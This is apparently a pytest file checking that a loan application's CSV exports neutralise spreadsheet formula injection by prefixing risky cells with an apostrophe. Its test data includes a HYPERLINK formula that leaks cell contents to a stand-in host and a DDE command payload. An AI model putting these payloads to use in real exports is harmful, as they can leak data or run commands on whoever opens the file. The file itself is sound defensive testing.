"""Issue #17, item 7: no export writes a live spreadsheet formula, whoever typed the text."""

from __future__ import annotations

import csv
import io

import pytest

from loanapp.exports import csv_text, safe_cell

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-125.50", "-125.50"),  # a negative amount stays a number
        ("-7", "-7"),
        ("Darco Manufacturing", "Darco Manufacturing"),
        (None, ""),
        (12, "12"),
    ],
)
def test_cells_that_would_run_as_formulas_are_written_as_text(raw: object, written: str) -> None:
    assert safe_cell(raw) == written


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    text = csv_text(["name", "amount"], [[ATTACK, "-10.00"], ["ok", "=1"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "amount"], ["'" + ATTACK, "-10.00"], ["ok", "'=1"]]


def test_the_journal_export_carries_a_formula_memo_as_text(client, token_for, auth) -> None:  # type: ignore[no-untyped-def]
    staff = token_for("staff")
    posted = client.post(
        "/api/v1/reserve/deposits",
        json={
            "funder": ATTACK,
            "grant": "G-1",
            "amount": "10.00",
            "received_on": "2026-12-01",
            "memo": ATTACK,
        },
        headers={**staff, "Idempotency-Key": "formula"},
    )
    assert posted.status_code == 201, posted.get_json()
    auth.login("staff")
    response = client.get("/reserve/journal.csv")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert any(c == "'" + ATTACK for c in cells)
